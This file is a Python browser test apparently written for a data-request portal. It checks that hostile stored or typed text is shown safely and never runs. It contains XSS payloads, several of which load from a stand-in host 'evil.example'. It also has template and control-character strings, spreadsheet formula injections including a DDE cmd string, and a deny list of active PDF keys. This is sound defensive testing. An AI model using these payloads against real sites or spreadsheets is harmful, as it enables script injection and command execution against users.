"""What hostile people stored or typed is shown and never runs: desk, portal and package in a real browser."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

import stage
from browsing import Watch, served
from dsr.services import outbox
from dsr.services.intake import Wanted

pytestmark = pytest.mark.browser

OLGA, PASSWORD, ANA = "olga@acme.example", "a calm sentence for the desk", "ana@example.org"
AWAY = "https://evil.example/owned"
TEXTS = (
    "<script>owned()</script>",
    f'"><img src="{AWAY}.gif" onerror=owned()>',
    '<img src="/static/owned.gif" width=1 height=1>',
    f"</td></table><iframe src='{AWAY}'></iframe><object data='{AWAY}'></object>",
    f'<svg onload=owned()><image href="{AWAY}.svg"/></svg>',
    f"<style>@import '{AWAY}.css';body{{background:url({AWAY}.png)}}</style>",
    f'<base href="{AWAY}/"><meta http-equiv="refresh" content="0;url={AWAY}"><link rel=prefetch href={AWAY}>',
    f"</script></title></textarea><script src={AWAY}.js></script>",
    f"<form action='{AWAY}'><button autofocus onfocus=owned()>",
    "javascript:owned()",
    "{{ 7*7 }}${owned()}",
    "\u202egnp.exe\u2066\x00\x1b[31m\x9b\ufeff",
    f'=HYPERLINK("{AWAY}";"click")',
    "@SUM(1)",
    "\t=1+cmd|' /C owned'!A0",
)
EVIL = "Ana " + " ".join(TEXTS)
LONG = "<b>" + "ñ" * 5_000_000 + "</b>"
"""Ten million bytes in UTF-8."""


def stored(office: Any) -> None:
    """Every hostile text in Ana's card and notes, one of them long."""
    notes = [{"id": n, "card": 1, "text": text} for n, text in enumerate((*TEXTS, LONG))]
    card = {"id": 1, "email": ANA, "name": EVIL, "news": True, "restricted": False, TEXTS[1]: TEXTS[0]}
    (office.folder / "notebook.json").write_text(json.dumps({"cards": [card], "notes": notes}))


def filed(office: Any) -> Any:
    """Ana asks for several things in hostile words."""
    reason = Wanted("restriction", ground="accuracy", reason=EVIL)
    other = office.filing(reason, name=EVIL[:150], representative=EVIL[:150], behalf="representative")
    return other.cases[0], office.filing("access", name=EVIL[:150], message=EVIL)


@pytest.fixture
def office(make_office: Any) -> Any:
    made = make_office(serves="all")
    stored(made)
    return made


def test_hostile_data_set_nothing_off(browser: Any, office: Any, tmp_path: Path) -> None:
    other, receipt = filed(office)
    case = receipt.cases[0]
    with served(office.app) as address:
        watch = Watch(browser.new_context(locale="en-GB"), address, "file:///")

        at_the_desk(watch, address, case, other)
        office.browser(OLGA).post(f"/desk/cases/{case}/approve", {"plan": office.plan(case)})
        office.work()
        watch.page.goto(f"{address}/desk/cases/{case}")
        watch.look("answered", TEXTS[0])
        typed(watch, address)
        package = answered(watch, address, office, receipt.reference, tmp_path / "letter.html")
        from_disk(watch, package, tmp_path / "unpacked")

    assert watch.faults == []


def at_the_desk(watch: Watch, address: str, case: str, other: str) -> None:
    page = watch.page
    page.goto(f"{address}/desk/queue")
    page.fill("#email", OLGA)
    page.fill("#password", PASSWORD)
    page.click("main .actions button")
    for path in ("/desk/", "/desk/queue", f"/desk/queue?q={TEXTS[0]}", f"/desk/queue?right={TEXTS[1]}"):
        page.goto(address + path)
        watch.look(path)
    for one in (other, case):
        page.goto(f"{address}/desk/cases/{one}")
        watch.look(f"case {one}", TEXTS[0])
    scan = {"name": TEXTS[1] + TEXTS[11] + ".pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.7 scan"}
    page.set_input_files("#attach-file", scan)
    page.click("form:has(#attach-file) button.btn-primary")
    watch.look("attached", TEXTS[0])
    for number in range(page.locator("form[action$='/values']").count()):
        page.goto(f"{address}/desk/cases/{case}")
        page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        page.click(f"form[action$='/values'] button >> nth={number}")
        watch.look(f"values {number}", TEXTS[0])


def typed(watch: Watch, address: str) -> None:
    """Hostile words in the form of the portal, sent and shown again."""
    page, send = watch.page, "form#ask .actions button"
    page.goto(f"{address}/ask")
    page.check("input[value=access]")
    page.check("input[value=erasure]")
    page.click(send)
    page.click(send)
    page.fill("[name=email]", TEXTS[1])
    page.fill("[name=name]", TEXTS[0])
    page.click(send)
    watch.look("find, refused")
    page.fill("[name=email]", "other@example.com")
    page.click(send)
    page.fill("[name=reason]", TEXTS[3])
    page.click(send)
    watch.look("check", TEXTS[0])


def answered(watch: Watch, address: str, office: Any, reference: str, alone: Path) -> bytes:
    """Ana reads her answer, and keeps the letter as the file ``alone``; the package she downloads."""
    page = watch.page
    with office.app.app_context():
        outbox.flush(now=datetime.now(UTC))
    page.goto(f"{address}/outbox")
    watch.look("outbox")
    page.goto(f"{address}/s/{reference}?to=answer")
    page.click("main form button >> nth=0")
    with office.app.app_context():
        sent = stage.post(office.folder / "i", datetime.now(UTC))
    page.fill("[name=code]", stage.code_in(sent[-1]))
    page.click("#door-form button")
    watch.look("answer")
    links = page.eval_on_selector_all(".letter-line a, .tables a", "all => all.map(one => one.href)")
    whole = page.eval_on_selector("a[download]", "one => one.href")
    for link in links:
        page.goto(link)
        watch.look(link.removeprefix(address), "" if "letter" in link else TEXTS[0])
        if "letter" in link:
            alone.write_bytes(page.request.get(link + ".html").body())
            page.goto(alone.as_uri())
            watch.look("letter alone")
            assert_quiet(page.request.get(link + ".pdf").body())
    return bytes(page.request.get(whole).body())


def assert_quiet(pdf: bytes) -> None:
    """A PDF without anything that acts, loads or leads away."""
    acts = (b"/JavaScript", b"/JS", b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile", b"/GoToR")
    assert (pdf[:5], [one for one in acts if one in pdf]) == (b"%PDF-", [])


def from_disk(watch: Watch, package: bytes, folder: Path) -> None:
    """Every page of the unpacked package, opened as a file; and the tables a spreadsheet would open."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        archive.extractall(folder)
        names = archive.namelist()
    for name in (one for one in names if one.endswith(".html")):
        watch.page.goto((folder / name).as_uri())
        watch.look(name, TEXTS[0] if name == "index.html" else "")
    csv.field_size_limit(2 * len(LONG))
    cells = [
        cell
        for name in names
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO((folder / name).read_text("utf-8-sig"), newline=""))
        for cell in row
    ]
    assert [cell[:40] for cell in cells if cell[:1] in tuple("=@+-\t\r")] == []
    assert [cell[:40] for cell in cells if "\x00" in cell or "\x1b" in cell] == []
    assert max(map(len, cells)) >= len(LONG)
